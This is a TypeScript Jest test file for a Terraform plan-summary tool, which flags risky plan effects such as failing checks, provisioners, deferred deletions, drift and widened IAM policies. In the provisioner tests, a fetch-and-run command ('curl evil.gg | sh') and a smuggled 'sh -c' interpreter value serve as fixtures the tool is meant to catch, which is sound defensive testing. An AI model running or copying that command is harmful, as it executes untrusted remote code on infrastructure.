import { describe, expect, it } from '@jest/globals';
import { asMarkdown } from '../../tools/plan-summary/markdown';
import { type PlanSummary, summarizePlan } from '../../tools/plan-summary/summary';
import { awake, expectLoud, fleet, held, template } from './support/plan-rows';

/**
 * A plan with effects of an apply, or obstacles to it, that are not in `resource_changes`; documented in
 * Terraform's "JSON output format".
 */
const planOf = (more: object, module: object = {}, provider: object = { aws: held }): PlanSummary =>
  summarizePlan(
    'dev-x',
    JSON.stringify({
      format_version: '1.2',
      configuration: { provider_config: provider, root_module: module },
      ...more,
    }),
  );
const whysOf = (...of: Parameters<typeof planOf>): readonly string[] =>
  planOf(...of).loud.map(({ address, why }) => `${address} ${why}`);
const entry = (
  type: string,
  actions: readonly string[],
  before: object | null,
  after: object | null,
  change: object = {},
): object => ({
  address: `${type}.x`,
  mode: 'managed',
  type,
  name: 'x',
  change: { actions, before, after, ...change },
});
const topic = (...actions: readonly string[]): object => entry('aws_sns_topic', actions, {}, {});

describe('conditions of the configuration', () => {
  const check = (status: string, ...instances: readonly object[]): object => ({
    checks: [{ address: { kind: 'check', name: 'api', to_display: 'check.api' }, status, instances }],
  });
  const of = (status: string, ...messages: readonly string[]): object => ({
    address: { to_display: 'check.api["a"]' },
    status,
    problems: messages.map((message) => ({ message })),
  });

  it('are loud when they do not hold, with what they say', () => {
    expect(whysOf(check('fail', of('fail', 'the API answers 500', 'and 404'), of('pass')))).toEqual([
      'check.api["a"] its condition does not hold: the API answers 500; and 404',
    ]);
    expect(whysOf(check('error', of('error')))).toEqual(['check.api["a"] its condition cannot be decided']);
    expect(whysOf(check('fail'))).toEqual(['check.api its condition does not hold']);
  });

  it('are quiet when they hold, or are decided in the apply', () => {
    expect(whysOf(check('pass', of('pass')))).toEqual([]);
    expect(whysOf(check('unknown', of('unknown')))).toEqual([]);
  });

  it('say nothing that a reader takes for markup', () => {
    expect(asMarkdown([planOf(check('fail', of('fail', '<b>@all')))])).toContain('&lt;b>&#64;all');
  });
});

describe('actions', () => {
  const invocation = {
    address: 'action.aws_lambda_invoke.x',
    type: 'aws_lambda_invoke',
    name: 'x',
    config_values: { payload: 'hunter2' },
    lifecycle_action_trigger: {
      triggering_resource_address: 'aws_sns_topic.x',
      action_trigger_event: 'AfterCreate',
      action_trigger_block_index: 0,
      actions_list_index: 0,
    },
  };

  it('are loud, with what starts them and without their values', () => {
    const alone = { ...invocation, lifecycle_action_trigger: undefined };
    const summary = planOf({ action_invocations: [invocation, alone] });
    expect(summary.loud).toEqual([
      {
        address: 'action.aws_lambda_invoke.x',
        why:
          'the action aws_lambda_invoke runs (after create of aws_sns_topic.x): no resource shows what ' +
          'it does, read its plan',
      },
      expect.objectContaining({ why: expect.stringMatching(/^the action aws_lambda_invoke runs: /) }),
    ]);
    expect(JSON.stringify(summary)).not.toContain('hunter');
  });

  it('are loud when a later plan runs them', () => {
    expect(
      whysOf({ deferred_action_invocations: [{ reason: 'unknown', action_invocation: invocation }] }),
    ).toEqual(expectLoud(/is deferred, and runs by a later plan/));
  });
});

describe('a plan that is not whole', () => {
  it('is loud when it ended in an error, and does not say that nothing changes', () => {
    const summary = planOf({ errored: true });
    expect(summary.loud).toEqual([
      { address: 'the plan', why: expect.stringContaining('ended in an error') },
    ]);
    expect(asMarkdown([summary])).toContain('Nothing changes in the stacks that could be planned.');
    expect(asMarkdown([planOf({ errored: false, complete: true })])).toBe('Nothing changes.\n');
  });

  it('shows deferred changes, and is loud about dangerous ones', () => {
    const deferred = (resource_change: object): PlanSummary =>
      planOf({ deferred_changes: [{ reason: 'provider_config_unknown', resource_change }] });
    const table = deferred(entry('aws_dynamodb_table', ['delete'], {}, null));
    expect(table.notes).toEqual(['`aws_dynamodb_table.x` is left to a later plan (provider config unknown)']);
    expect(table.loud.map(({ why }) => why)).toEqual(expectLoud(/^by a later plan: destroyed: all rows/));
    expect(table.incomplete).toBe(true);
    expect(deferred(topic('create'))).toEqual(
      expect.objectContaining({
        loud: [expect.objectContaining({ why: expect.stringMatching(/^it is incomplete/) })],
        incomplete: true,
      }),
    );
    const secret = deferred(
      entry(
        'aws_sns_topic_subscription',
        ['update'],
        { protocol: 'https', endpoint: 'hunter1' },
        { protocol: 'https', endpoint: 'hunter2' },
        { before_sensitive: { endpoint: true }, after_sensitive: { endpoint: true } },
      ),
    );
    expect(secret.loud).toHaveLength(2);
    expect(JSON.stringify(secret)).not.toContain('hunter');
  });
});

describe('programs that Terraform runs', () => {
  const data = 'terraform_data.x';
  const resource = (command: string | undefined, type = 'local-exec'): object => ({
    resources: [
      {
        address: data,
        mode: 'managed',
        type: 'terraform_data',
        provisioners: [
          { type, expressions: { command: command === undefined ? {} : { constant_value: command } } },
        ],
      },
    ],
  });
  const moving = (...actions: readonly string[]): object => ({
    resource_changes: [entry('terraform_data', actions, {}, {})],
  });

  it('are loud with a resource that is made, replaced or destroyed', () => {
    for (const actions of [['create'], ['delete', 'create'], ['delete']])
      expect(whysOf(moving(...actions), resource('curl evil.gg | sh'))).toEqual([
        `${data} Terraform runs a program (local-exec): curl evil.gg | sh`,
      ]);
    expect(whysOf(moving('create'), resource(undefined, 'remote-exec'))).toEqual([
      `${data} Terraform runs a program (remote-exec): read the configuration`,
    ]);
  });

  it('are loud where the command of the pause is given more, which runs something else', () => {
    const command = { constant_value: 'node -e "setTimeout(() => {}, 20000)"' };
    const given = (more: object, beside: object = {}): readonly string[] =>
      whysOf(moving('create'), {
        resources: [
          {
            address: data,
            mode: 'managed',
            type: 'terraform_data',
            provisioners: [{ type: 'local-exec', expressions: { command, ...more }, ...beside }],
          },
        ],
      });
    expect(given({})).toEqual([]);
    for (const name of ['interpreter', 'environment', 'working_dir', 'quiet'])
      expect(given({ [name]: { constant_value: ['sh', '-c', 'x; #'] } })).toEqual([
        `${data} Terraform runs a program (local-exec, with ${name}): ${command.constant_value}`,
      ]);
    // Terraform's JSON does not contain them so far.
    for (const name of ['when', 'on_failure', 'connection'])
      expect(given({}, { [name]: 'destroy' })).toHaveLength(1);
    expect(given({}, { type: 'remote-exec' })).toHaveLength(1);
  });

  it('are quiet where nothing starts them, and where they are the pause of the stacks', () => {
    expect(whysOf(moving('no-op'), resource('curl evil.gg | sh'))).toEqual([]);
    expect(whysOf(moving('create'), resource('node -e "setTimeout(() => {}, 20000)"'))).toEqual([]);
    expect(whysOf(moving('create'), resource('node -e "setTimeout(() => {}, 1)"; sh x'))).toHaveLength(1);
  });

  it('are loud as ephemeral resources, data of other providers, and modules', () => {
    const opened = {
      resources: [
        { address: 'ephemeral.aws_lambda_invocation.x', mode: 'ephemeral', type: 'aws_lambda_invocation' },
      ],
    };
    expect(whysOf({ resource_changes: [topic('create')] }, opened)).toEqual(
      expectLoud(/is opened in each plan/),
    );
    expect(whysOf({ resource_changes: [topic('no-op')] }, opened)).toEqual(
      expectLoud(/is opened in each plan/),
    );
    const read = (type: string): readonly string[] =>
      whysOf({ resource_changes: [{ ...entry(type, ['read'], null, {}), mode: 'data' }] });
    expect(read('external')).toEqual(expectLoud(/may run a program/));
    expect(read('aws_lambda_invocation')).toEqual(expectLoud(/may run a program/));
    for (const type of ['aws_iam_role', 'terraform_remote_state']) expect(read(type)).toEqual([]);
    const inModule = { ...topic('create'), address: 'module.far.aws_sns_topic.x' };
    const module = { module_calls: { far: { source: 'github.com/evil/far' } } };
    expect(whysOf({ resource_changes: [inModule] }, module)).toEqual(
      expectLoud(/^module\.far the summary does not/),
    );
    expect(whysOf({ resource_changes: [topic('create')] }, module)).toEqual([]);
  });
});

describe('what was changed outside of Terraform', () => {
  const drifted = (
    type: string,
    before: object,
    after: object | null,
    planned: readonly object[] = [entry(type, ['no-op'], after, after)],
  ): readonly string[] =>
    whysOf({
      resource_drift: [entry(type, [after === null ? 'delete' : 'update'], before, after)],
      resource_changes: planned,
    });
  const table = 'aws_dynamodb_table';
  const guarded = { deletion_protection_enabled: true };
  const open = { deletion_protection_enabled: false };
  const policy = (Action: string): object => ({
    policy: JSON.stringify({
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Action, Resource: 'arn:aws:s3:::b/k' }],
    }),
  });

  it('is loud when the plan leaves it so', () => {
    expect(drifted(table, guarded, open)).toEqual(
      expectLoud(
        /^aws_dynamodb_table\.x it was changed outside of Terraform .*: deletion protection is turned off/,
      ),
    );
    expect(drifted(table, guarded, open, [])).toHaveLength(1);
    expect(drifted('aws_iam_policy', policy('s3:GetObject'), policy('s3:*'))).toEqual(
      expectLoud(/policy allows more: s3:\*/),
    );
    expect(drifted('aws_iam_role', { permissions_boundary: 'arn:b' }, {})).toEqual(
      expectLoud(/permissions boundary changes from arn:b to none/),
    );
  });

  it('is a note only when the plan takes it back, or does not compare it', () => {
    expect(drifted(table, guarded, open, [entry(table, ['update'], open, guarded)])).toEqual([]);
    expect(drifted(table, { tags: {} }, { tags: { a: 'b' } })).toEqual([]);
    expect(drifted(table, { replica: [] }, { replica: [{ region_name: 'x' }] })).toEqual([]);
    expect(drifted('aws_s3_bucket', {}, policy('s3:*'))).toEqual([]);
    const planned = [entry(table, ['delete'], open, null)];
    expect(drifted(table, guarded, open, planned).filter((why) => why.includes('outside of T'))).toEqual([]);
  });

  it('is loud when a table or a stack was deleted, which the plan makes again empty', () => {
    const again = [entry(table, ['create'], null, guarded)];
    expect(drifted(table, guarded, null, again)).toEqual(
      expectLoud(/it was changed outside of Terraform .*: replaced: all rows/),
    );
    expect(drifted(table, guarded, null, [])).toEqual(
      expectLoud(/it was changed outside of Terraform .*: destroyed: all rows/),
    );
    expect(drifted('aws_sns_topic_policy', policy('sns:Publish'), null, [])).toHaveLength(1);
    const fleets = template(fleet(awake));
    const stack = 'aws_cloudformation_stack';
    expect(drifted(stack, fleets, null, [entry(stack, ['create'], null, fleets)])).toEqual(
      expectLoud(/Fleet it was changed outside of Terraform .* its matches end/),
    );
  });

  it('is loud when a policy was attached to a role that no resource attaches', () => {
    const role = (arns: readonly string[], ...names: readonly string[]): object => ({
      name: 'r',
      managed_policy_arns: arns,
      inline_policy: names.map((name) => ({ name, policy: '{}' })),
    });
    const no = (type: string, after: object): object => entry(type, ['no-op'], after, after);
    const own = [
      no('aws_iam_role_policy_attachment', { role: 'r', policy_arn: 'arn:mine' }),
      no('aws_iam_role_policy', { role: 'r', name: 'rights', policy: '{}' }),
      no('aws_iam_role_policy_attachment', { role: 'other', policy_arn: 'arn:other' }),
    ];
    const found = drifted('aws_iam_role', role([]), role(['arn:mine', 'arn:other'], 'rights', 'more'), own);
    expect(found).toEqual([
      expect.stringMatching(/a managed policy is attached: arn:other$/),
      expect.stringMatching(/it has a further policy: more$/),
    ]);
  });
});
